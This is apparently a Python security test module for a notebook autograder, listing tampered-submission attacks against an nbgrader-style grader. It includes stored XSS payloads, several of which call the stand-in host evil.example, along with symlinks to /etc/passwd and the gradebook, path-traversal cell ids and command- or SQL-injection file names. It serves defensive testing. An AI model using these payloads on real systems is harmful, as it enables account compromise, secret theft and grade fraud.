"""Attacks by the notebook itself: what a hand, an editor or a disk makes of the file.

Two kinds: with the starter as answer, after points or after harm to others; and with
the solution, where the damage must not cost its author the points.
"""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from bs4 import BeautifulSoup

from autograder.notebook import ANSWER_ID
from tests.attacks.attack import (
    FULL_MARKS,
    PART,
    SLUG,
    SOLUTION,
    STARTER,
    Achieves,
    Attack,
    Graded,
    costs,
    earns,
    ends_in_nothing,
    reads,
)

Notebook = dict[str, Any]
CellDict = dict[str, Any]

REPAIRED = "plain nbgrader takes the cell from the gradebook"
HARMLESS = "plain nbgrader ignores it"
NO_ROOM = "would cost this machine memory and minutes on plain nbgrader"
EQUAL = "the same happens on plain nbgrader as with m12, which shows it"
ESCAPED = "plain nbgrader clears or escapes it; x13 and x14 show what it lets through"

# --------------------------------------------------------------------------------------
# Questions


def loses_points(graded: Graded) -> bool:
    """Ask whether a right answer got less than full marks."""
    return graded.score != FULL_MARKS


def runs_script(graded: Graded) -> bool:
    """Ask whether a browser would run the attacker's code in the feedback page."""
    page = _page(graded)
    for tag in BeautifulSoup(page, "html.parser").find_all(True):
        if tag.name in _ACTIVE and graded.mark in str(tag):
            return True
        for name, value in tag.attrs.items():
            text = "".join(str(value).split()).lower()
            active = name.startswith("on") or text.startswith(_ACTIVE_ADDRESSES)
            if active and graded.mark in text:
                return True
    return False


_ACTIVE = {"script", "iframe", "object", "embed", "base", "meta", "link", "form", "svg"}
_ACTIVE_ADDRESSES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg")


def _page(graded: Graded) -> str:
    if not graded.feedback.exists():  # plain nbgrader was asked for the grades only
        graded.world.plain(
            "generate_feedback", PART, f"--student={graded.learner}", "--force"
        )
    if not graded.feedback.exists():
        return ""
    return graded.feedback.read_text(encoding="utf-8", errors="replace")


def looks_elsewhere(graded: Graded) -> bool:
    """Ask whether the feedback page fetches something from an outside host."""
    return any(
        graded.mark in str(tag.get(name, ""))
        for tag in BeautifulSoup(_page(graded), "html.parser").find_all(True)
        for name in ("src", "srcset", "data", "poster", "background", "style")
    )


def handed_in_too_early(graded: Graded) -> bool:
    """Ask whether a date of the learner's own was booked, and nobody was told."""
    with graded.world.gradebook() as gradebook:
        booked = gradebook.find_submission(PART, graded.learner).timestamp
    said = graded.run.log.splitlines()
    remarks = graded.world.course / "grading" / f"{PART}-remarks.csv"
    if remarks.exists():
        said += remarks.read_text(encoding="utf-8").splitlines()
    told = any(
        graded.learner in line and "timestamp" in line.lower() and "INFO" not in line
        for line in said
    )
    return booked is not None and booked.year < 2010 and not told


def writes_beside(graded: Graded) -> bool:
    """Ask whether a file named by a grade id appears outside its own folder."""
    name = f"{graded.mark}stray"
    world = graded.world
    allowed = world.course / "submitted"
    return any(
        allowed not in path.parents
        for folder in (world.folder,)
        for path in folder.rglob(f"*{name}*")
    )


def keeps_the_gradebook(graded: Graded) -> bool:
    """Ask whether the gradebook itself lies in the attacker's graded folder."""
    place = graded.world.gradebook_path.stat()
    return any(
        path.is_file() and path.stat().st_ino == place.st_ino
        for path in graded.autograded.parent.glob("*")
    ) or reads("gradebook")(graded)


def stays_executable(graded: Graded) -> bool:
    """Ask whether a graded file runs with the rights of its owner."""
    return any(
        path.is_file() and path.stat().st_mode & 0o6000
        for path in graded.autograded.parent.glob("*")
    )


# --------------------------------------------------------------------------------------
# Ways to change what was handed in


def notebook_of(folder: Path) -> Path:
    """The notebook in a submitted folder."""
    return folder / f"{SLUG}.ipynb"


def edited(change: Callable[[Notebook], object]) -> Callable[[Path], None]:
    """Change the notebook as data, and write it without asking whether it is valid."""

    def tamper(folder: Path) -> None:
        path = notebook_of(folder)
        notebook = json.loads(path.read_text(encoding="utf-8"))
        change(notebook)
        path.write_text(json.dumps(notebook), encoding="utf-8")

    return tamper


def rewritten(change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """Change the notebook as bytes."""

    def tamper(folder: Path) -> None:
        path = notebook_of(folder)
        path.write_bytes(change(path.read_bytes()))

    return tamper


def cell(notebook: Notebook, grade_id: str) -> CellDict:
    """Find a cell by its grade id."""
    found: CellDict = next(
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )
    return found


def grade_cells(notebook: Notebook) -> list[CellDict]:
    """All cells that carry points."""
    return [
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade") is True
    ]


def own(source: object, kind: str = "code", **further: object) -> CellDict:
    """A cell of the learner's own, as data."""
    made: CellDict = {"cell_type": kind, "metadata": {}, "source": source}
    if kind == "code":
        made |= {"execution_count": None, "outputs": []}
    return {**made, **further}


def marks(**changes: object) -> Callable[[Notebook], None]:
    """Change nbgrader's metadata of all grade cells."""

    def change(notebook: Notebook) -> None:
        for each in grade_cells(notebook):
            each["metadata"]["nbgrader"].update(changes)

    return change


def answers(**changes: object) -> Callable[[Notebook], None]:
    """Change keys of the answer cell."""
    return lambda notebook: cell(notebook, ANSWER_ID).update(changes)


def everywhere(**changes: object) -> Callable[[Notebook], None]:
    """Change keys of all cells."""

    def change(notebook: Notebook) -> None:
        for each in notebook["cells"]:
            each.update(changes)

    return change


def top(**changes: object) -> Callable[[Notebook], None]:
    """Change keys of the notebook."""
    return lambda notebook: notebook.update(changes)


def append(*cells: CellDict) -> Callable[[Notebook], None]:
    """Put cells of the learner's own at the end."""
    return lambda notebook: notebook["cells"].extend(cells)


def damaged(
    name: str,
    title: str,
    tamper: Callable[[Path], None],
    *,
    achieves: Achieves = loses_points,
    not_shown: str = "",
    whole_class: bool = False,
    answer: str = SOLUTION,
) -> Attack:
    """A right answer in a damaged notebook: it must keep its points."""
    return Attack(
        name,
        title,
        achieves,
        goal="harm",
        answer=answer,
        tamper=tamper,
        honest=FULL_MARKS,
        not_shown=not_shown,
        whole_class=whole_class,
    )


def unreadable(
    name: str, title: str, tamper: Callable[[Path], None], *, not_shown: str = EQUAL
) -> Attack:
    """A notebook that nobody can read: there must be a result all the same."""
    return Attack(
        name,
        title,
        ends_in_nothing,
        goal="harm",
        tamper=tamper,
        not_shown=not_shown,
    )


def greedy(
    name: str,
    title: str,
    tamper: Callable[[Path], None],
    *,
    achieves: Achieves | None = None,
    not_shown: str = REPAIRED,
) -> Attack:
    """A wrong answer in a notebook that was changed to get points for it."""
    return Attack(name, title, achieves or earns(1), tamper=tamper, not_shown=not_shown)


# --------------------------------------------------------------------------------------
# Grade cells and nbgrader's metadata


def delete_grade_cells(notebook: Notebook) -> None:
    graded = grade_cells(notebook)
    notebook["cells"] = [c for c in notebook["cells"] if c not in graded]


def unlock_and_empty(notebook: Notebook) -> None:
    marks(locked=False)(notebook)
    for each in grade_cells(notebook):
        each["source"] = "pass"


def become_markdown(notebook: Notebook) -> None:
    for each in grade_cells(notebook):
        each["cell_type"] = "markdown"
        del each["outputs"], each["execution_count"]


def duplicate(notebook: Notebook) -> None:
    """What an editor's "copy cell" does, with an id of its own as editors give."""
    for number, each in enumerate(grade_cells(notebook)[:1]):
        copy = json.loads(json.dumps(each)) | {"id": f"copied-{number}"}
        notebook["cells"].append(copy)


def add_a_grade_cell(notebook: Notebook) -> None:
    extra = json.loads(json.dumps(grade_cells(notebook)[0]))
    extra |= {"id": "bonus", "source": "10"}
    extra["metadata"]["nbgrader"] |= {"grade_id": "bonus", "points": 10}
    notebook["cells"].append(extra)


def forget_the_grade_id(notebook: Notebook) -> None:
    del grade_cells(notebook)[0]["metadata"]["nbgrader"]["grade_id"]


def one_schema(version: object) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        grade_cells(notebook)[0]["metadata"]["nbgrader"]["schema_version"] = version

    return change


def metadata_of_another_kind(value: object) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        grade_cells(notebook)[0]["metadata"]["nbgrader"] = value

    return change


def swap_ids(notebook: Notebook) -> None:
    """The answer carries a test's name, and the test the answer's."""
    answer, test = cell(notebook, ANSWER_ID), grade_cells(notebook)[0]
    names = answer["metadata"]["nbgrader"], test["metadata"]["nbgrader"]
    names[0]["grade_id"], names[1]["grade_id"] = (
        names[1]["grade_id"],
        names[0]["grade_id"],
    )


def forge_outputs(notebook: Notebook) -> None:
    forged = {
        "output_type": "execute_result",
        "execution_count": 1,
        "metadata": {},
        "data": {"text/plain": "10"},
    }
    for each in grade_cells(notebook):
        each["outputs"] = [forged]
        each["metadata"]["nbgrader"]["checksum"] = "0" * 32


def climbing_id(notebook: Notebook) -> None:
    stray = json.loads(json.dumps(cell(notebook, ANSWER_ID)))
    stray["id"] = "climb"
    stray["metadata"]["nbgrader"]["grade_id"] = "../../../../mark-m45-stray"
    stray["metadata"]["nbgrader"]["solution"] = False
    notebook["cells"].append(stray)


def second_answer(notebook: Notebook) -> None:
    copy = json.loads(json.dumps(cell(notebook, ANSWER_ID)))
    notebook["cells"].append(copy | {"id": "answer-again", "source": SOLUTION})


CELLS = [
    damaged(
        "m01",
        "All grade cells are deleted",
        edited(delete_grade_cells),
        not_shown="",
    ),
    greedy("m02", "Every grade cell is worth 100 points", edited(marks(points=100))),
    greedy("m03", "Grade cells are unlocked and emptied", edited(unlock_and_empty)),
    greedy("m04", "Grade cells become Markdown", edited(become_markdown)),
    damaged("m05", "Grade cells say they are none", edited(marks(grade=False))),
    damaged(
        "m06", "Grade cells say they are solutions too", edited(marks(solution=True))
    ),
    damaged(
        "m07",
        "A grade cell stands there twice, as after copying a cell in an editor",
        edited(duplicate),
    ),
    damaged(
        "m08", "A grade cell of the learner's own, 10 points", edited(add_a_grade_cell)
    ),
    damaged("m09", "A grade cell without a name", edited(forget_the_grade_id)),
    damaged(
        "m10",
        "A grade cell claims the metadata of nbgrader's first year",
        edited(one_schema(1)),
        achieves=costs("zoe"),
        whole_class=True,
    ),
    damaged(
        "m11",
        "A grade cell claims metadata of nbgrader's far future",
        edited(one_schema(99)),
        achieves=costs("zoe"),
        whole_class=True,
    ),
    damaged(
        "m29",
        "A grade cell's schema version is a word",
        edited(one_schema("x")),
        not_shown="the same as m10 but for one learner",
    ),
    damaged(
        "m24",
        "nbgrader's metadata of a cell is a text",
        edited(metadata_of_another_kind("x")),
    ),
    damaged(
        "m30",
        "nbgrader's metadata of a cell is a list",
        edited(metadata_of_another_kind([1, 2])),
        not_shown="the same as m24",
    ),
    damaged(
        "m31",
        "nbgrader's metadata of a cell is null",
        edited(metadata_of_another_kind(None)),
        not_shown="the same as m24",
    ),
    Attack(
        "m27",
        "The answer and a grade cell have swapped their names",
        ends_in_nothing,
        goal="harm",
        tamper=edited(swap_ids),
        not_shown="",
    ),
    greedy(
        "m26",
        "Grade cells bring an output of 10 points along",
        edited(forge_outputs),
        not_shown="plain nbgrader clears outputs before it runs the cells",
    ),
    greedy(
        "m32",
        "The answer cell says it is a grade cell of 10 points",
        edited(
            lambda notebook: cell(notebook, ANSWER_ID)["metadata"]["nbgrader"].update(
                grade=True, points=10, solution=False
            )
        ),
        not_shown="plain nbgrader refuses the notebook: no points, no score",
    ),
    Attack(
        "m33",
        "The right answer stands in a second answer cell, the wrong one in the first",
        ends_in_nothing,
        goal="harm",
        tamper=edited(second_answer),
        honest=FULL_MARKS,
        not_shown="plain nbgrader fails at it; either answer may count",
    ),
    Attack(
        "m45",
        "A cell's name climbs out of the folder",
        writes_beside,
        goal="harm",
        tamper=edited(climbing_id),
        not_shown="plain nbgrader makes no file names of cell names",
    ),
    damaged(
        "m46",
        "All cells have the same id",
        edited(everywhere(id="same")),
        not_shown="plain nbgrader gives new ids",
    ),
    damaged(
        "m47",
        "Cell ids are empty, hold blanks and quotes, or are a number",
        edited(everywhere(id="' or 1=1; --\n")),
        not_shown=EQUAL,
    ),
    damaged(
        "m48",
        "A cell id of 200 kB",
        edited(append(own("1", id="x" * 200_000))),
        not_shown=EQUAL,
    ),
    damaged(
        "m49",
        "A grade id of 200 kB",
        edited(
            append(
                own(
                    "1",
                    id="long",
                    metadata={
                        "nbgrader": {
                            "grade_id": "x" * 200_000,
                            "schema_version": 3,
                            "grade": False,
                            "solution": False,
                            "locked": False,
                            "task": False,
                        }
                    },
                )
            )
        ),
        not_shown=EQUAL,
    ),
    greedy(
        "m50",
        "A manually graded task of 100 points is added",
        edited(
            append(
                own(
                    "mine",
                    "markdown",
                    id="task",
                    metadata={
                        "nbgrader": {
                            "grade_id": "task",
                            "schema_version": 3,
                            "grade": True,
                            "solution": True,
                            "locked": False,
                            "task": True,
                            "points": 100,
                        }
                    },
                )
            )
        ),
        achieves=ends_in_nothing,
        not_shown=EQUAL,
    ),
    greedy(
        "m51",
        "Every cell of the exercise is gone, the answer too",
        edited(top(cells=[])),
        achieves=ends_in_nothing,
        not_shown=EQUAL,
    ),
]

# --------------------------------------------------------------------------------------
# Shapes of the file


def deep(data: bytes) -> bytes:
    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + data[:1] + b"}"


def deep_metadata(data: bytes) -> bytes:
    nest = b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    return data.replace(b'"metadata":', b'"metadata": {"deep": ' + nest + b'}, "x":', 1)


def sparse(size: int) -> Callable[[Path], None]:
    return lambda folder: os.truncate(notebook_of(folder), size)


def many_cells(count: int) -> Callable[[Notebook], None]:
    return append(*(own(f"{n}", id=f"own{n}") for n in range(count)))


def with_duplicate_keys(data: bytes) -> bytes:
    return data.rstrip()[:-1] + b', "cells": [], "cells": 1}'


def keyed_twice(data: bytes) -> bytes:
    """A second "source" in every cell; parsers keep the last."""
    return data.replace(b'"source":', b'"source": ["10"], "source":')


SHAPES = [
    unreadable(
        "m12", "The JSON ends too soon", rewritten(lambda d: d[:-50]), not_shown=""
    ),
    unreadable(
        "m13",
        "A notebook format of the far future",
        edited(top(nbformat=99)),
        not_shown="",
    ),
    unreadable(
        "m34",
        "The notebook says it has the old format 3",
        edited(top(nbformat=3, nbformat_minor=0)),
    ),
    unreadable("m35", "The notebook format is a word", edited(top(nbformat="four"))),
    unreadable(
        "m14", "JSON nested a hundred thousand deep", rewritten(deep), not_shown=""
    ),
    unreadable("m36", "Metadata nested fifty thousand deep", rewritten(deep_metadata)),
    unreadable("m15", "A notebook of 500 MB", sparse(500_000_000), not_shown=NO_ROOM),
    unreadable(
        "m37", "A file of 8 GB with nothing in it", sparse(1 << 33), not_shown=NO_ROOM
    ),
    unreadable("m38", "An empty file", rewritten(lambda _: b"")),
    unreadable(
        "m39",
        "A picture with a notebook's name",
        rewritten(lambda _: b"\x89PNG\r\n\x1a\n" + os.urandom(5000)),
    ),
    unreadable("m40", "A list instead of a notebook", rewritten(lambda _: b"[1, 2]")),
    unreadable("m41", "null instead of a notebook", rewritten(lambda _: b"null")),
    unreadable("m42", "Cells are a text", edited(top(cells="none"))),
    unreadable("m43", "Cells hold a number", edited(top(cells=[1, None, "x"]))),
    unreadable(
        "m44",
        "No cells, no metadata, no format",
        rewritten(lambda _: b"{}"),
    ),
    unreadable(
        "m16",
        "Ten thousand cells",
        edited(many_cells(10_000)),
        not_shown="takes plain nbgrader 49 s and 2.6 GB",
    ),
    unreadable("m52", "UTF-16", rewritten(lambda d: d.decode().encode("utf-16"))),
    unreadable(
        "m53",
        "Bytes that are no text",
        rewritten(lambda d: d.replace(b"carrier", b"carri\xff\xfe", 1)),
    ),
    damaged(
        "m54",
        "Half a character in a cell of the learner's own",
        edited(append(own("x = '\ud800'", id="half"))),
        not_shown=EQUAL,
    ),
    unreadable(
        "m55",
        "Half a character in the answer",
        edited(answers(source=f"{STARTER}\nhalf = '\ud800'\n")),
    ),
    unreadable(
        "m56",
        "NaN and Infinity where numbers should be",
        edited(top(nbformat_minor=float("nan"), metadata={"x": float("inf")})),
    ),
    unreadable(
        "m57",
        "A second list of cells under the same key",
        rewritten(with_duplicate_keys),
    ),
    greedy(
        "m58",
        "A second source under the same key in every cell",
        rewritten(keyed_twice),
        not_shown="plain nbgrader takes the cell from the gradebook",
    ),
    unreadable(
        "m59",
        "A number of five thousand digits",
        rewritten(
            lambda d: d.replace(
                b'"metadata":', b'"x": ' + b"9" * 5000 + b', "metadata":'
            )
        ),
    ),
    unreadable(
        "m60",
        "A number with an exponent past all bounds",
        rewritten(lambda d: d.replace(b'"metadata":', b'"x": 1e999999, "metadata":')),
        not_shown=HARMLESS,
    ),
    damaged(
        "m61",
        "Metadata of 4 MB",
        edited(top(metadata={"diary": "x" * 4_000_000})),
        achieves=ends_in_nothing,
        not_shown=HARMLESS,
    ),
    unreadable("m62", "Metadata is a list", edited(top(metadata=[1]))),
]

# --------------------------------------------------------------------------------------
# The answer cell's own shape

ANSWERS = [
    damaged(
        "m63",
        "The source is a list of lines, as Jupyter itself writes it",
        edited(answers(source=SOLUTION.splitlines(keepends=True))),
        not_shown="plain nbgrader reads both forms",
    ),
    unreadable("m64", "The source is a number", edited(answers(source=1))),
    unreadable("m65", "The source is a dictionary", edited(answers(source={"a": 1}))),
    unreadable("m66", "The source is null", edited(answers(source=None))),
    unreadable("m67", "The source is a list of numbers", edited(answers(source=[1]))),
    unreadable(
        "m68",
        "The answer has no source at all",
        edited(lambda notebook: cell(notebook, ANSWER_ID).pop("source")),
    ),
    unreadable(
        "m69",
        "The answer is Markdown",
        edited(answers(cell_type="markdown")),
        not_shown="plain nbgrader makes it a code cell again",
    ),
    unreadable(
        "m70",
        "The answer is a raw cell",
        edited(answers(cell_type="raw")),
        not_shown="plain nbgrader makes it a code cell again",
    ),
    unreadable("m71", "A kind of cell that nobody knows", edited(answers(cell_type=7))),
    unreadable("m72", "The outputs are a text", edited(answers(outputs="none"))),
    unreadable(
        "m73",
        "The outputs are of a kind that nobody knows",
        edited(answers(outputs=[{"output_type": "perfume", "data": 1}])),
        not_shown=HARMLESS,
    ),
]

# --------------------------------------------------------------------------------------
# Kernels and languages

KERNELS = [
    damaged(
        "m17",
        "The kernel of another language",
        edited(
            lambda notebook: notebook["metadata"].update(
                kernelspec={"name": "bash", "display_name": "Bash", "language": "bash"}
            )
        ),
        not_shown="plain nbgrader takes the kernel from the gradebook",
    ),
    damaged(
        "m28",
        "No kernel is named",
        edited(lambda notebook: notebook["metadata"].pop("kernelspec")),
        not_shown="plain nbgrader takes the kernel from the gradebook",
    ),
    damaged(
        "m74",
        "The language is forged, with a path as file extension",
        edited(
            lambda notebook: notebook["metadata"].update(
                language_info={
                    "name": "../../x",
                    "file_extension": "/../../../mark-m74-stray",
                    "pygments_lexer": "<script>mark-m74-</script>",
                }
            )
        ),
        achieves=lambda graded: writes_beside(graded) or runs_script(graded),
        not_shown="plain nbgrader highlights with its own lexer; no harm was seen",
    ),
]

# --------------------------------------------------------------------------------------
# Files in the folder


def link_secrets(folder: Path) -> None:
    (folder / "notes.txt").symlink_to("/etc/passwd")
    (folder / "data.db").symlink_to(folder.parents[2] / "gradebook.db")


def link_to_alice(folder: Path) -> None:
    notebook_of(folder).unlink()
    alice = folder.parents[1] / "alice" / PART / f"{SLUG}.ipynb"
    notebook_of(folder).symlink_to(alice)


def link_folder_to_source(folder: Path) -> None:
    (folder / "given").symlink_to(folder.parents[2] / "source", True)


def hard_link(folder: Path) -> None:
    os.link(folder.parents[2] / "gradebook.db", folder / "mine.db")


def link_to_itself(folder: Path) -> None:
    notebook_of(folder).unlink()
    notebook_of(folder).symlink_to(notebook_of(folder))


def odd_names(folder: Path) -> None:
    for name in (
        "new\nline.ipynb",
        "-rf.ipynb",
        "$(touch x).ipynb",
        "'; drop table grade; --.ipynb",
        "\u202ebpyni.ipynb",
        " .ipynb",
        "x" * 200 + ".ipynb",
        "*",
        "[a-z]*",
    ):
        (folder / name).write_bytes(notebook_of(folder).read_bytes())
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.ipynb")).write_text("{}")


def extra_notebooks(folder: Path) -> None:
    for name in ("decorator_2.ipynb", "answer.ipynb", "Copy of open_closed.ipynb"):
        (folder / name).write_bytes(notebook_of(folder).read_bytes())


def stamp(text: str) -> Callable[[Path], None]:
    def tamper(folder: Path) -> None:
        (folder / "timestamp.txt").write_text(text, encoding="utf-8")

    return tamper


def pipe_for_a_notebook(folder: Path) -> None:
    notebook_of(folder).unlink()
    os.mkfifo(notebook_of(folder))


def pipe_beside(folder: Path) -> None:
    os.mkfifo(folder / "notes.txt")


def pipe_for_a_date(folder: Path) -> None:
    os.mkfifo(folder / "timestamp.txt")


def folder_for_a_notebook(folder: Path) -> None:
    notebook_of(folder).unlink()
    notebook_of(folder).mkdir()


def no_notebook(folder: Path) -> None:
    notebook_of(folder).unlink()


def modules_beside(folder: Path) -> None:
    """Modules with the names of the grader's own, which nobody should import."""
    forged = "raise SystemExit('imported')\n"
    for name in ("autograder", "sitecustomize", "usercustomize", "IPython", "conftest"):
        (folder / f"{name}.py").write_text(forged, encoding="utf-8")
    (folder / "nbgrader_config.py").write_text(forged, encoding="utf-8")
    (folder / "ipython_config.py").write_text(forged, encoding="utf-8")


def setuid_helper(folder: Path) -> None:
    helper = folder / "helper.py"
    helper.write_text("#!/bin/sh\n", encoding="utf-8")
    helper.chmod(0o6755)
    notebook_of(folder).chmod(0o6755)


def unreadable_file(folder: Path) -> None:
    notebook_of(folder).chmod(0)


def deep_folders(folder: Path) -> None:
    deepest = folder.joinpath(*["d"] * 200)
    deepest.mkdir(parents=True)
    (deepest / "x.ipynb").write_text("{}", encoding="utf-8")


def large_beside(folder: Path) -> None:
    (folder / "film.mp4").touch()
    os.truncate(folder / "film.mp4", 3 << 30)


def fails_alone(
    name: str,
    title: str,
    tamper: Callable[[Path], None],
    *,
    not_shown: str = "",
) -> Attack:
    """A folder with something odd beside a right notebook, which must be graded."""
    return damaged(name, title, tamper, not_shown=not_shown)


FILES = [
    Attack(
        "m18",
        "Links in the folder point to the machine's users and to the gradebook",
        lambda graded: bool(graded.leaked & {"passwd", "gradebook"}),
        goal="secret",
        tamper=link_secrets,
    ),
    Attack(
        "m75",
        "A link in the folder points to the folder of the solutions",
        reads("solution"),
        goal="secret",
        tamper=link_folder_to_source,
        not_shown="plain nbgrader copies it one level deeper than is looked at here",
    ),
    Attack(
        "m19",
        "The notebook is a link to alice's",
        earns(6),
        tamper=link_to_alice,
    ),
    unreadable(
        "m76",
        "The notebook is a link to itself",
        link_to_itself,
        not_shown="plain nbgrader passes over it, and gives 0",
    ),
    Attack(
        "m77",
        "A file in the folder is the gradebook, by a hard link",
        keeps_the_gradebook,
        goal="secret",
        tamper=hard_link,
        not_shown="who can link the gradebook can read it: r07 shows it",
    ),
    fails_alone(
        "m20",
        "Files with odd names beside the notebook",
        odd_names,
        not_shown="plain nbgrader fails at the name that is no text, as at m12",
    ),
    fails_alone(
        "m21", "Notebooks that nobody asked for", extra_notebooks, not_shown=HARMLESS
    ),
    damaged(
        "m22",
        "The date of handing in is in the year 2000",
        stamp("2000-01-01 00:00:00 UTC"),
        achieves=handed_in_too_early,
    ),
    fails_alone("m23", "The date of handing in is none", stamp("once upon a time")),
    fails_alone(
        "m78",
        "The date of handing in has 100 kB",
        stamp("2020-01-01 00:00:00 UTC" + " " * 100_000),
        not_shown="the same as m23",
    ),
    fails_alone(
        "m79",
        "The date of handing in is a pipe",
        pipe_for_a_date,
        not_shown="plain nbgrader would wait for its end without end",
    ),
    unreadable(
        "m25",
        "The notebook is a pipe that nobody writes to",
        pipe_for_a_notebook,
        not_shown="plain nbgrader waits for ever for somebody to write into it",
    ),
    fails_alone(
        "m80",
        "A pipe lies beside the notebook",
        pipe_beside,
        not_shown="plain nbgrader fails at it, and only for its author",
    ),
    unreadable("m81", "A folder has the notebook's name", folder_for_a_notebook),
    unreadable(
        "m82",
        "There is no notebook in the folder",
        no_notebook,
        not_shown="plain nbgrader leaves such a row open for the instructor",
    ),
    fails_alone(
        "m83",
        "Modules and settings named like the grader's lie beside the notebook",
        modules_beside,
        not_shown="plain nbgrader's kernel was not seen to import them",
    ),
    damaged(
        "m84",
        "Files with the rights of their owner",
        setuid_helper,
        achieves=stays_executable,
        not_shown="shutil.copy drops these bits on plain nbgrader",
    ),
    unreadable(
        "m85",
        "The notebook may not be read by anybody",
        unreadable_file,
        not_shown="root may read it all the same, and plain nbgrader gives 0",
    ),
    fails_alone(
        "m86", "Two hundred folders, one in the other", deep_folders, not_shown=HARMLESS
    ),
    damaged(
        "m87",
        "A film of three gigabytes lies beside the notebook",
        large_beside,
        achieves=lambda graded: any(
            path.stat().st_size > 1 << 30
            for path in graded.autograded.parent.rglob("film*")
        ),
        not_shown="plain nbgrader would copy three gigabytes",
    ),
]

# --------------------------------------------------------------------------------------
# What others see in their browsers

SCRIPT = "<script>fetch('//evil.example/mark-{0}-')</script>"


def page_attack(
    name: str,
    title: str,
    *,
    after: tuple[str, ...] = (),
    tamper: Callable[[Path], None] | None = None,
    achieves: Achieves = runs_script,
    answer: str = STARTER,
    not_shown: str = "x13 and x14 show that plain nbgrader lets markup through",
) -> Attack:
    """A notebook that wants to run in the browser of who reads the feedback."""
    return Attack(
        name,
        title,
        achieves,
        goal="harm",
        answer=answer,
        after=after,
        tamper=tamper,
        not_shown=not_shown,
    )


def markdown(text: str, **further: object) -> Callable[[Path], None]:
    return edited(append(own(text, "markdown", id="note", **further)))


PAGES = [
    page_attack(
        "x13",
        "A script in an output",
        after=(f'from IPython.display import HTML\nHTML("{SCRIPT.format("x13")}")',),
        not_shown="",
    ),
    page_attack(
        "x14",
        "A script and an event in a Markdown cell",
        tamper=markdown(
            SCRIPT.format("x14") + '\n\n<img src=x onerror="alert(`mark-x14-`)">'
        ),
        not_shown="",
    ),
    page_attack(
        "m88",
        "Links in Markdown that are scripts, spelt in many ways",
        tamper=markdown(
            "[a](javascript:alert`mark-m88-`) "
            "[b](java&#x09;script:alert`mark-m88-`) "
            '<a href="&#106;avascript:alert`mark-m88-`">c</a> '
            "[d](data:text/html,mark-m88-) "
            "<javascript:alert`mark-m88-`>"
        ),
    ),
    page_attack(
        "m89",
        "A drawing in Markdown that is a program",
        tamper=markdown(
            '<svg onload="alert(`mark-m89-`)"><script>mark-m89-</script></svg>'
            '<math><mtext><img src=x onerror="mark-m89-"></mtext></math>'
        ),
    ),
    page_attack(
        "m90",
        "A frame, a form and a redirection in Markdown",
        tamper=markdown(
            '<iframe srcdoc="<script>mark-m90-</script>"></iframe>'
            '<form action="//evil.example/mark-m90-"><input name=q></form>'
            '<meta http-equiv="refresh" content="0;url=//evil.example/mark-m90-">'
            '<base href="//evil.example/mark-m90-">'
        ),
    ),
    page_attack(
        "m91",
        "A script in an attachment of a Markdown cell",
        tamper=markdown(
            "![x](attachment:x.svg)",
            attachments={
                "x.svg": {
                    "image/svg+xml": "<svg onload='mark-m91-'/>",
                    'x" onerror="mark-m91-': "eA==",
                }
            },
        ),
    ),
    page_attack(
        "m92",
        "Outputs of the file itself hold scripts, in every place that has text",
        tamper=edited(
            append(
                own(
                    "1",
                    id="shown",
                    outputs=[
                        {
                            "output_type": "display_data",
                            "metadata": {},
                            "data": {
                                "text/html": SCRIPT.format("m92"),
                                "image/svg+xml": "<svg onload='mark-m92-'/>",
                                "application/javascript": "'mark-m92-'",
                                "image/png": '"><script>mark-m92-</script>',
                                "text/markdown": SCRIPT.format("m92"),
                                "text/latex": SCRIPT.format("m92"),
                            },
                        }
                    ],
                )
            )
        ),
        not_shown=ESCAPED,
    ),
    page_attack(
        "m93",
        "A picture's data leave its attribute",
        after=(
            """
from IPython.display import display
display({"image/png": 'x" onerror="alert(`mark-m93-`)'}, raw=True)
""",
        ),
        not_shown=ESCAPED,
    ),
    page_attack(
        "m94",
        "An error's name and text are markup",
        answer=f'raise type("{SCRIPT.format("m94")}", (Exception,), {{}})'
        f'("{SCRIPT.format("m94")}")\n',
        not_shown=ESCAPED,
    ),
    page_attack(
        "m95",
        "The value that a check quotes is markup",
        answer=STARTER
        + f'\n\ndef label(*given):\n    return "{SCRIPT.format("m95")}"\n'
        + f'\n\ndef manifest(*given):\n    return ["{SCRIPT.format("m95")}"]\n',
        not_shown=ESCAPED,
    ),
    page_attack(
        "m96",
        "The notebook's title and its kernel's name are markup",
        tamper=edited(
            lambda notebook: notebook["metadata"].update(
                title="</title>" + SCRIPT.format("m96"),
                authors=[{"name": SCRIPT.format("m96")}],
                kernelspec={
                    "name": "python3",
                    "display_name": SCRIPT.format("m96"),
                    "language": '"><script>mark-m96-</script>',
                },
            )
        ),
        not_shown=ESCAPED,
    ),
    page_attack(
        "m97",
        "Cell ids and tags are markup",
        tamper=edited(
            append(
                own(
                    "1",
                    id='x"><script>mark-m97-</script>',
                    metadata={
                        "tags": ['x"><script>mark-m97-</script>'],
                        "nbgrader": {"grade_id": '"><script>mark-m97-</script>'},
                    },
                )
            )
        ),
        not_shown=ESCAPED,
    ),
    page_attack(
        "m98",
        "Colours of a terminal that close their tag",
        after=(
            'print("\\x1b[31m</span></pre><script>mark-m98-</script>\\x1b[0m")',
            'print("\\x1b]8;;javascript:alert`mark-m98-`\\x07x\\x1b]8;;\\x07")',
        ),
        not_shown=ESCAPED,
    ),
    page_attack(
        "m99",
        "Markdown fetches a picture from outside: who reads it is counted",
        tamper=markdown("![x](https://evil.example/mark-m99-.png)"),
        achieves=looks_elsewhere,
    ),
    Attack(
        "m100",
        "A script in the learner's own code closes the page's code block",
        runs_script,
        goal="harm",
        answer=STARTER + "\n# </code></pre><script>mark-m100-</script>\n",
        not_shown="plain nbgrader escapes code",
    ),
    Attack(
        "m101",
        "Formulas that are scripts",
        runs_script,
        goal="harm",
        tamper=markdown(
            "$\\href{javascript:alert`mark-m101-`}{x}$ "
            "$\\unicode{<img src=x onerror=alert`mark-m101-`>}$ "
            "$$</span><script>mark-m101-</script>$$"
        ),
        not_shown=ESCAPED,
    ),
]

